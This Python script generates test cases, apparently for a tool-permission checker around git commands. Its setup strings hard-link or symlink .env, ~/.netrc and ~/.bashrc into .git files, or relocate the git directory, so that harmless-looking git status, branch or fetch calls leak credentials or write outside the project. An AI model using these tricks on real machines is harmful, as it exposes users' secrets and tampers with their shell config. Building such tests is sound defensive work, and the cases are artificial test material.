rows=[]
def r(cls,setup,line): rows.append(f"{cls}\tsetup:{setup} ;;; {line}")
Z="mkdir -p .git/objects/zz && "
# LEAK via symlink within git dir to a hard link in objects
for line in ["git status","git status -s","git log -1","git branch","git diff"]:
    r("G-bisectstart-objlink", Z+"ln .env .git/objects/zz/x && touch .git/BISECT_LOG && ln -s objects/zz/x .git/BISECT_START", line)
    r("G-packedrefs-objlink", Z+"ln .env .git/objects/zz/x && ln -s objects/zz/x .git/packed-refs", line)
r("G-bisectstart-hard-control", "touch .git/BISECT_LOG && ln .env .git/BISECT_START", "git status")
r("G-packedrefs-hard-control", "ln .env .git/packed-refs", "git status")
r("G-bisectstart-packlink", "ln .env .git/objects/pack/x && touch .git/BISECT_LOG && ln -s objects/pack/x .git/BISECT_START", "git status")
r("G-rebase-headname-objlink", Z+"ln .env .git/objects/zz/x && mkdir -p .git/rebase-merge && ln -s ../objects/zz/x .git/rebase-merge/head-name && git rev-parse HEAD > .git/rebase-merge/onto && echo 1 > .git/rebase-merge/msgnum && echo 1 > .git/rebase-merge/end && touch .git/rebase-merge/interactive", "git status")
r("G-packedrefs-netrc-objlink", Z+"ln @H@/.netrc .git/objects/zz/x && ln -s objects/zz/x .git/packed-refs", "git status")
# refs hard-linked (not judged)
for line in ["git branch -a","git log --all -1","git status","git show-ref"]:
    r("G-ref-hardlink", "ln .env .git/refs/heads/x", line)
# OUTW via git branch: reflog symlink into objects hard link
r("G-branch-reflog-objlink", Z+"ln @H@/.bashrc .git/objects/zz/x && mkdir -p .git/logs/refs/heads && ln -s ../../../objects/zz/x .git/logs/refs/heads/foo", "git branch foo")
r("G-branch-reflog-hard-control", "mkdir -p .git/logs/refs/heads && ln @H@/.bashrc .git/logs/refs/heads/foo", "git branch foo")
r("G-branch-reflog-packlink", "ln @H@/.bashrc .git/objects/pack/x && mkdir -p .git/logs/refs/heads && ln -s ../../../objects/pack/x .git/logs/refs/heads/foo", "git branch foo")
r("G-branch-headlog-objlink", Z+"ln @H@/.bashrc .git/objects/zz/x && rm -f .git/logs/HEAD && ln -s ../objects/zz/x .git/logs/HEAD", "git branch -f master HEAD")
# fetch (tool-permissions)
r("G-fetch-fetchhead-objlink", Z+"ln @H@/.bashrc .git/objects/zz/x && git remote add o . && ln -s objects/zz/x .git/FETCH_HEAD", "git fetch o")
r("G-fetch-reflog-objlink", Z+"ln @H@/.bashrc .git/objects/zz/x && git remote add o . && mkdir -p .git/logs/refs/remotes/o && ln -s ../../../../objects/zz/x .git/logs/refs/remotes/o/master", "git fetch o")
r("G-fetch-fetchhead-packlink", "ln @H@/.bashrc .git/objects/pack/x && git remote add o . && ln -s objects/pack/x .git/FETCH_HEAD", "git fetch o")
# git dir outside the project
r("G-gitdir-file-out", "mv .git @M@/g && printf 'gitdir: @M@/g\\n' > .git", "git branch foo")
r("G-gitdir-file-out", "mv .git @M@/g && printf 'gitdir: @M@/g\\n' > .git", "git status")
r("G-gitdir-link-out", "mv .git @M@/g && ln -s @M@/g .git", "git branch foo")
r("G-gitdir-file-out-fetch", "mv .git @M@/g && printf 'gitdir: @M@/g\\n' > .git && git remote add o .", "git fetch o")
open("g2.tsv","w").write("\n".join(rows)+"\n")
print(len(rows))
